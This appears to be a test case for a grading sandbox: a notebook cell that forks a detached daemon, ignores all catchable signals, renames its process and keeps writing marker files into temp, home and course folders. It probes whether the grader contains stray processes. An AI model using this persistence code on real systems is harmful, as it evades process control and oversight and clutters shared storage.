# ---
# attack: leaves a daemon behind (double fork, new session, no signals) that goes on writing files wherever it can
# kind: extra cell
# honest: [ex1, ex2, ex3, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 2, ex4-test: 2, ex4-test-close: 4}
# student sees: ""
# ---
# %% before ex1
import ctypes
import os
import signal
import time
from pathlib import Path

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"@token@", 0, 0, 0)  # PR_SET_NAME
        while True:
            for folder in ("@course@", "/tmp", "/var/tmp", "/dev/shm", str(Path.home()), "."):
                try:
                    (Path(folder) / "@token@-daemon").write_text("I am still here")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
